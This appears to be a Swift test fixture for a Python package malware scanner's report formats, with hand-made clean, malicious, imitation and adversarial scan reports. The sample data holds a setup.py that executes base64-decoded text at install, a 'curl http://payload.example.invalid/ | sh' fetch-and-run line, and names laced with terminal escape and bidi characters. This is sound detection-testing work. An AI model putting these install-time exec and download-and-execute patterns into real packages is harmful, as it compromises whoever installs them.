import Archives
import Behaviors
import Judgement
import Limits
import PythonSemantics
import Rules
import Scanning
import Similarity
import SourceText

@testable import Reporting

/// Reports made by hand, so that formats are tested without a scanner.
enum Samples {
  static let setup = """
    from setuptools import setup
    import base64

    exec(base64.b64decode("cHJpbnQoMSk="))
    \turl = "http://payload.example.invalid/stage2.bin"
    setup(name="lookalike")

    """

  static let layer = "import os\nos.system('id')\n"

  /// The range of a piece of text in another.
  static func range(of piece: String, in text: String) -> SourceRange {
    let whole = Array(text.utf8)
    let part = Array(piece.utf8)
    guard
      let start = (0...(whole.count - part.count)).first(where: { whole[$0..<($0 + part.count)].elementsEqual(part) })
    else { preconditionFailure("the sample does not contain \(piece)") }
    return SourceRange(start: UInt32(start), end: UInt32(start + part.count))
  }

  static let rules: [RuleDescription] = [
    RuleDescription(
      id: "execution/decoded-text-executed", title: "Decoded text is executed", severity: .critical,
      techniques: ["T1027", "T1059.006"],
      help: "Code that was hidden as text is decoded and run.\n\nFew honest programs do."),
    RuleDescription(
      id: "network/download", title: "Something is downloaded", severity: .medium, help: "A file is fetched."),
  ]

  static let context = ReportContext(
    toolVersion: "0.0.0", rules: rules, workingFolder: "/home/someone/project")

  static func finding(
    _ rule: RuleDescription, at piece: String, layer: Int? = nil, path: String = "lookalike-1.0/setup.py",
    systems: [TargetSystem] = [], evidence: [Observation] = []
  ) -> Finding {
    let text = layer == nil ? setup : Self.layer
    let location = Location(path: path, layer: layer, range: range(of: piece, in: text))
    let first = Observation(
      .executesCode, sources: BehaviorSet(.decodes), runsAt: .install, location: location, subject: "builtins.exec")
    var finding = Finding(
      rule: rule.id, title: rule.title, severity: rule.severity, techniques: rule.techniques, runsAt: .install,
      systems: systems, location: location, evidence: [first] + evidence)
    finding.sha256 = String(repeating: "5e", count: 32)
    finding.chain = [ReachStep(kind: .installScript, location: Location(path: path), name: "setup")]
    guard let layer else { return finding }
    let outer = Location(path: path, range: Self.range(of: "exec(base64.b64decode(\"cHJpbnQoMSk=\"))", in: setup))
    finding.chain += [
      ReachStep(kind: .layer, location: outer, name: "layer \(layer)", skippedCount: 3),
      ReachStep(kind: .call, location: location, name: "go()"),
    ]
    return finding
  }

  static var clean: ScanReport {
    var statistics = ScanReport.Statistics()
    statistics.memberCount = 4
    statistics.pythonFileCount = 2
    statistics.pythonByteCount = 1234
    return ScanReport(
      artifact: ScanReport.Artifact(
        path: "dist/honest-2.0-py3-none-any.whl", name: "honest-2.0-py3-none-any.whl",
        sha256: String(repeating: "ab", count: 32), byteCount: 5120, kind: "wheel"),
      distributionName: "honest", distributionVersion: "2.0",
      verdict: Verdict(level: .clean, score: 0, reasons: []), statistics: statistics)
  }

  /// Something was seen, and it weighs too little.
  static var harmless: ScanReport {
    var report = malicious
    report.verdict = Verdict(level: .clean, score: 1, reasons: [report.verdict.reasons[1]])
    report.findings = [report.findings[1]]
    report.limitations = []
    return report
  }

  static var malicious: ScanReport {
    let url = Observation(
      .fetchesFromNetwork, runsAt: .install, systems: [.windows],
      location: Location(
        path: "lookalike-1.0/setup.py", range: range(of: "\"http://payload.example.invalid/stage2.bin\"", in: setup)),
      subject: "urllib.request.urlopen", detail: "http://payload.example.invalid/stage2.bin")
    var statistics = ScanReport.Statistics()
    statistics.memberCount = 3
    statistics.pythonFileCount = 1
    statistics.pythonByteCount = setup.utf8.count
    return ScanReport(
      artifact: ScanReport.Artifact(
        path: "dist/lookalike-1.0.tar.gz", name: "lookalike-1.0.tar.gz", sha256: String(repeating: "12", count: 32),
        byteCount: 4096, kind: "sdist"),
      distributionName: "lookalike", distributionVersion: "1.0",
      verdict: Verdict(
        level: .malicious, score: 12.5,
        reasons: [
          Verdict.Reason(
            subject: "execution/decoded-text-executed", contribution: 9, message: "Decoded text is executed at install."
          ),
          Verdict.Reason(subject: "network/download", contribution: 3.5, message: "A file is fetched."),
        ]),
      findings: [
        finding(rules[0], at: "exec(base64.b64decode(\"cHJpbnQoMSk=\"))", evidence: [url]),
        finding(rules[1], at: "http://payload.example.invalid/stage2.bin", systems: [.windows, .linux]),
        finding(rules[0], at: "os.system('id')", layer: 0),
      ],
      layers: [
        ScanReport.Layer(
          index: 0, parent: nil, encodings: ["base64", "zlib"], sha256: String(repeating: "34", count: 32),
          bytes: Array(layer.utf8), language: .python,
          location: Location(
            path: "lookalike-1.0/setup.py", range: range(of: "exec(base64.b64decode(\"cHJpbnQoMSk=\"))", in: setup)),
          executedBy: "builtins.exec", runsAt: .install),
        ScanReport.Layer(
          index: 1, parent: 0, encodings: [], sha256: String(repeating: "56", count: 32),
          bytes: Array("curl http://payload.example.invalid/\u{1b}[2J | sh".utf8), language: .shell,
          location: Location(
            path: "lookalike-1.0/setup.py", layer: 0, range: SourceRange(start: 10, end: 25)),
          executedBy: "os.system", runsAt: .install),
      ],
      anomalies: [
        ArchiveAnomaly(.duplicateName, path: "lookalike-1.0/setup.py", message: "Two members have this name.")
      ],
      limitations: [
        Limitation(.ratio, path: "lookalike-1.0/data.bin", message: "Unpacks to more than 200 times its size.")
      ],
      statistics: statistics, sources: ["lookalike-1.0/setup.py": Array(setup.utf8)])
  }

  /// A copy of a known project with something added, and another project carried along.
  static var imitation: ScanReport {
    var report = malicious
    let path = "lookalike-1.0/setup.py"
    var counts = Copy.Counts()
    counts.same = 36
    counts.renamed = 2
    counts.edited = 1
    counts.added = 1
    counts.missing = 3
    let added = range(of: "exec(base64.b64decode(\"cHJpbnQoMSk=\"))", in: setup)
    report.copies = [
      Copy(
        relation: .imitation, project: "honest", version: "2.0", counts: counts,
        addedCode: [Copy.Stretch(path: path, range: added, startLine: 4, endLine: 4)], percent: 97),
      Copy(
        relation: .vendoring, project: "carried\u{1B}[2J", version: "1.1", counts: Copy.Counts(), addedCode: [],
        percent: 1),
    ]
    report.findings[0].origin = .added(project: "honest", version: "2.0")
    report.findings[1].origin = .known(project: "honest", version: "2.0")
    return report
  }

  static var unreadable: ScanReport {
    ScanReport(
      artifact: ScanReport.Artifact(
        path: "missing.whl", name: "missing.whl", sha256: "", byteCount: 0, kind: "unreadable"),
      verdict: Verdict(level: .inconclusive, score: 0, reasons: []),
      limitations: [Limitation(.unreadable, path: "", message: "Could not be read: no such file or folder.")])
  }

  /// More findings of one rule in one file than are shown.
  static var repeated: ScanReport {
    var report = malicious
    let finding = report.findings[1]
    report.findings = Array(repeating: finding, count: 6)
    report.anomalies = (0..<11).map { ArchiveAnomaly(.zipComment, path: "a\($0)", message: "There is a comment.") }
    report.limitations = []
    return report
  }

  /// Everything in it that could be chosen by an attacker was.
  static var hostile: ScanReport {
    var report = clean
    let evil =
      "a\u{1B}[2J\u{202E}gnp.\u{200B}\u{0}\u{7F}\u{9B}31m\"\\\n\r\t\u{2028}\u{FFFE}\u{E0041}\u{10FFFF}😀e\u{301}\u{301}日本"
    report.artifact.path = "../dist/\(evil) %41#?:.whl"
    report.artifact.name = evil
    report.distributionName = evil
    report.distributionVersion = evil
    var bytes = Array("\u{202E}x = '\u{FEFF}日本語'".utf8) + [0xFF, 0xC0, 0xAF, 0xED, 0xA0, 0x80]
    bytes += Array(repeating: 0x20, count: 8000) + Array("exec(y)\u{1B}]0;title\u{7}\n".utf8)
    report.sources = [evil: bytes]
    let start = bytes.count - Array("exec(y)\u{1B}]0;title\u{7}\n".utf8).count
    let location = Location(path: evil, range: SourceRange(start: UInt32(start), end: UInt32(start + 7)))
    let wild = Location(path: evil, layer: 9, range: SourceRange(start: 4_000_000_000, end: 3))
    report.findings = [
      Finding(
        rule: rules[0].id, title: evil, severity: .info, runsAt: .start, location: location,
        evidence: [
          Observation(
            .hidesText, runsAt: .call, location: location, subject: evil,
            detail: "curl https://10.0.0.1:8080/a?b=c.example.invalid -o 'evil.example.invalid' && \(evil)"),
          Observation(.hidesText, runsAt: .call, location: wild, subject: evil),
        ]),
      Finding(
        rule: rules[1].id, title: "Beyond the end", severity: .low, runsAt: .test,
        location: Location(path: evil, range: SourceRange(start: 4_000_000_000, end: 3)), evidence: []),
    ]
    report.findings[0].chain = [
      ReachStep(kind: .entryPoint, location: location, name: evil), ReachStep(kind: .guess, location: wild, name: evil),
    ]
    report.findings[0].sha256 = String(repeating: "0f", count: 32)
    report.findings[1].acceptance = Acceptance(reason: evil, author: evil, expires: "2027-01-31", place: evil)
    report.verdict = Verdict(
      level: .suspicious, score: .infinity,
      reasons: [Verdict.Reason(subject: evil, contribution: .nan, message: evil)])
    report.anomalies = [ArchiveAnomaly(.unprintableName, path: evil, message: evil)]
    report.limitations = [Limitation(.damaged, path: evil, message: evil)]
    return report
  }

  static var all: [ScanReport] { [malicious, clean, clean, harmless, repeated, imitation, hostile, unreadable] }

  static func write(
    _ reports: [ScanReport], as format: String, shape: ReportShape, options: TextOptions = TextOptions()
  ) -> String {
    var context = context
    context.text = options
    guard var writer = ReportFormats[format]?.makeWriter(context) else { return "no format \(format)" }
    var bytes: [UInt8] = []
    writer.begin(shape, to: &bytes)
    for report in reports { writer.write(report, to: &bytes) }
    writer.end(to: &bytes)
    return String(decoding: bytes, as: UTF8.self)
  }
}
